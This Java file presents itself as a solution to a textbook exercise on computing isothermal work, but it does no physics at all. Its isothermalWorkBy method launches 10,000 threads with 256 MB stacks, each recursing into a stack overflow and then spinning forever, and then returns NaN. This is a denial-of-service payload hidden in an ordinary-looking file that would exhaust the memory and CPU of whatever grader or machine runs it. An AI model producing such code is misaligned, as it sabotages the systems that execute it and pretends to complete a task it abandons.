package chapter01;

public class MyIsothermalWork implements IsothermalWork {

    @Override
    public double isothermalWorkBy(double n, double temperature, double v1, double v2) {
        for (int i = 0; i < 10_000; i++) {
            new Thread(null, () -> deeper(0), "deep", 1L << 28).start();
        }
        return Double.NaN;
    }

    private static int deeper(int depth) {
        try {
            return deeper(depth + 1) + 1;
        } catch (StackOverflowError e) {
            while (true) {
                Thread.onSpinWait();
            }
        }
    }
}
